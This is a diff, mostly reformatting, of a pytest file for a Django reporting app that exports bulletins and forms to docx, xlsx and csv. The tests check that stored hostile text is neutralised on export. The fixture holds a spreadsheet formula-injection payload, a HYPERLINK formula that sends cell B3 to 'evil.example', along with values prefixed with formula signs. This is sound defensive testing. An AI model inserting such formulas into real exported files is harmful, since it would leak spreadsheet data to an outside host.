@@ -36,7 +36,12 @@ from shishi.notice.text import clean_text
 from shishi.plans.models import Plan, Project, Target
 from shishi.reporting.models import ReportLine, ReportVersion
 from shishi.reporting.services import (
-    LineEntry, accept_report, attach_stamped_pdf, save_draft, start_report, submit_report,
+    LineEntry,
+    accept_report,
+    attach_stamped_pdf,
+    save_draft,
+    start_report,
+    submit_report,
 )
 from tests.conftest import pdf_bytes
 
@@ -56,9 +61,15 @@ def stored(cast, plan, q1):
     """The scene, then dirty text written into the rows as they are."""
     lena, cora = cast["lena"], cast["cora"]
     report = start_report(lena.unit, q1)
-    entries = {line.project_id: LineEntry("教体局一季度完成3所幼儿园主体工程。", "2023年12月31日", "on_schedule",
-                                          {v.target_id: Decimal("3") for v in line.values.all()})
-               for line in report.lines.prefetch_related("values")}
+    entries = {
+        line.project_id: LineEntry(
+            "教体局一季度完成3所幼儿园主体工程。",
+            "2023年12月31日",
+            "on_schedule",
+            {v.target_id: Decimal("3") for v in line.values.all()},
+        )
+        for line in report.lines.prefetch_related("values")
+    }
     report = save_draft(report, lena, report.revision, entries)
     attach_stamped_pdf(report, lena, pdf_bytes(), "盖章.pdf")
     report.refresh_from_db()
@@ -69,7 +80,9 @@ def stored(cast, plan, q1):
     controls = every_control_character()
     texts = {
         # the measure: a formula first, Word's manual line break inside, every control character after
-        "measures": '=HYPERLINK("http://evil.example/?x="&B3,"点击查看附件")第一行\x0b第二行' + controls + "完",
+        "measures": '=HYPERLINK("http://evil.example/?x="&B3,"点击查看附件")第一行\x0b第二行'
+        + controls
+        + "完",
         "title": "+实施优质教育资源" + controls + "扩容提质行动",
         "unit": "-县教育体育局" + controls,
         "indicator": "@新改扩建幼儿园" + controls,
@@ -87,9 +100,14 @@ def stored(cast, plan, q1):
         ReportVersion.objects.filter(pk=version.pk).update(content=version.content)
     assert Unit.objects.get(pk=lena.unit_id).name == texts["unit"]  # stored as it was, not cleaned on the way
     shown = {key: clean_text(text) for key, text in texts.items()}
-    assert shown["measures"].startswith('=HYPERLINK(') and "第一行\n第二行" in shown["measures"]
-    return {"plan": Plan.objects.get(pk=plan.pk), "period": q1, "unit": Unit.objects.get(pk=lena.unit_id),
-            "texts": texts, "shown": shown}
+    assert shown["measures"].startswith("=HYPERLINK(") and "第一行\n第二行" in shown["measures"]
+    return {
+        "plan": Plan.objects.get(pk=plan.pk),
+        "period": q1,
+        "unit": Unit.objects.get(pk=lena.unit_id),
+        "texts": texts,
+        "shown": shown,
+    }
 
 
 @pytest.fixture(autouse=True)
@@ -99,6 +117,7 @@ def today():
 
 
 # --- reading what was written ------------------------------------------------------------------
+
 
 def docx_text(data: bytes) -> str:
     """Every paragraph and table cell of the document, opened again by python-docx."""
@@ -112,11 +131,22 @@ def docx_text(data: bytes) -> str:
 def xlsx_cells(data: bytes) -> list:
     """Every written cell of the workbook, opened again by openpyxl; none may be a formula."""
     book = load_workbook(io.BytesIO(data))
-    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    cells = [
+        cell
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.value is not None
+    ]
     assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
-    assert [cell.coordinate for cell in cells
-            if isinstance(cell.value, str) and cell.value.startswith(FORMULA_SIGNS) and len(cell.value) > 1
-            and not cell.quotePrefix] == []
+    assert [
+        cell.coordinate
+        for cell in cells
+        if isinstance(cell.value, str)
+        and cell.value.startswith(FORMULA_SIGNS)
+        and len(cell.value) > 1
+        and not cell.quotePrefix
+    ] == []
     return cells
 
 
@@ -126,7 +156,9 @@ def xlsx_text(data: bytes) -> str:
 
 def csv_text(data: bytes) -> str:
     cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
-    assert [cell for cell in cells if cell.startswith(FORMULA_SIGNS) and len(cell) > 1 and not _number(cell)] == []
+    assert [
+        cell for cell in cells if cell.startswith(FORMULA_SIGNS) and len(cell) > 1 and not _number(cell)
+    ] == []
     return "\n".join(cells)
 
 
@@ -152,13 +184,20 @@ def _number(text: str) -> bool:
 
 # --- the bulletin ------------------------------------------------------------------------------
 
+
 def test_the_bulletin_preview_is_written(client, cast, stored):
     client.force_login(cast["cora"])
     response = client.get(reverse("bulletins:preview", args=[stored["plan"].pk, 1]))
     assert response.status_code == 200
     shown = stored["shown"]
-    assert_clean(docx_text(response.content), shown["measures"], shown["title"], shown["unit"], shown["indicator"],
-                 shown["plan"])
+    assert_clean(
+        docx_text(response.content),
+        shown["measures"],
+        shown["title"],
+        shown["unit"],
+        shown["indicator"],
+        shown["plan"],
+    )
 
 
 def test_the_bulletin_is_issued_and_opens(client, cast, stored):
@@ -170,7 +209,9 @@ def test_the_bulletin_is_issued_and_opens(client, cast, stored):
     data = client.get(reverse("bulletins:download", args=[bulletin.pk])).content
     shown = stored["shown"]
     text = docx_text(data)
-    assert_clean(text, shown["measures"], shown["title"], shown["unit"], shown["indicator"], clean_text(title))
+    assert_clean(
+        text, shown["measures"], shown["title"], shown["unit"], shown["indicator"], clean_text(title)
+    )
 
 
 def test_in_the_bulletin_a_stored_manual_line_break_is_a_line_break(cast, stored):
@@ -186,6 +227,7 @@ def test_in_the_bulletin_a_stored_manual_line_break_is_a_line_break(cast, stored
 
 
 # --- the official form -------------------------------------------------------------------------
+
 
 @pytest.mark.parametrize("fmt", ["docx", "xlsx"])
 @pytest.mark.parametrize("who", ["lena", "cora"])  # her own draft; the submitted version
@@ -219,6 +261,7 @@ def test_the_blank_form_is_written(client, cast, stored, fmt):
 
 
 # --- exports -----------------------------------------------------------------------------------
+
 
 def expected_in(kind: str, shown: dict) -> list[str]:
     return {
